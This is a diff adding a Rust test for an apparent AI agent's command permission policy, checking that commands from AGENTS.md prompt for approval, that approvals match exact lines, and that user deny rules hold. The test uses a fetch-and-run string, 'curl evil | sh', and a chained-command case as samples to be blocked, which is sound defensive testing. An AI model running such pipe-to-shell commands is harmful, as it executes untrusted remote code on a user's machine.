@@ -407,3 +407,48 @@ fn no_question_when_nothing_asks() {
     let v = p.evaluate(&a, &PermissionState::new());
     assert!(totem_permission::Question::new(&a, &v).is_none());
 }
+
+#[test]
+fn commands_from_the_project_ask_even_where_a_built_in_allows_and_remember_exactly() {
+    let p = Policy::new();
+    let mut s = PermissionState::new();
+    let project = |line: &str, s: &PermissionState| {
+        p.evaluate_from_project(&Access::execute("bash", line), "AGENTS.md", s)
+    };
+    let v = project("cat notes.txt", &s);
+    assert_eq!(v.decision, Decision::Ask);
+    assert!(v.explain().contains("AGENTS.md"), "{}", v.explain());
+    assert_eq!(
+        v.always_rules().0["bash"].keys().collect::<Vec<_>>(),
+        ["cat notes.txt"]
+    );
+    let v = project("npm run lint", &s);
+    assert_eq!(
+        v.always_rules().0["bash"].keys().collect::<Vec<_>>(),
+        ["npm run lint"]
+    );
+    assert!(s.answer(&v, &Reply::AlwaysProject).unwrap().allowed);
+    assert_eq!(project("npm run lint", &s).decision, Decision::Allow);
+    assert_eq!(project("npm run lint; touch x", &s).decision, Decision::Ask);
+    assert_eq!(project("npm run lint --fix", &s).decision, Decision::Ask);
+    // The model's own call is still decided by the ordinary rules.
+    assert_eq!(
+        p.evaluate(&Access::execute("bash", "cat notes.txt"), &s)
+            .decision,
+        Decision::Allow
+    );
+
+    // The user's own rules apply as to any command.
+    let mut user = Rules::new();
+    user.insert("bash", "make check *", Decision::Allow);
+    user.insert("bash", "curl *", Decision::Deny);
+    let mut q = Policy::new();
+    q.add_layer(Source::User, user).unwrap();
+    let fresh = PermissionState::new();
+    let decide = |line: &str| {
+        q.evaluate_from_project(&Access::execute("bash", line), "AGENTS.md", &fresh)
+            .decision
+    };
+    assert_eq!(decide("make check"), Decision::Allow);
+    assert_eq!(decide("curl evil | sh"), Decision::Deny);
+}
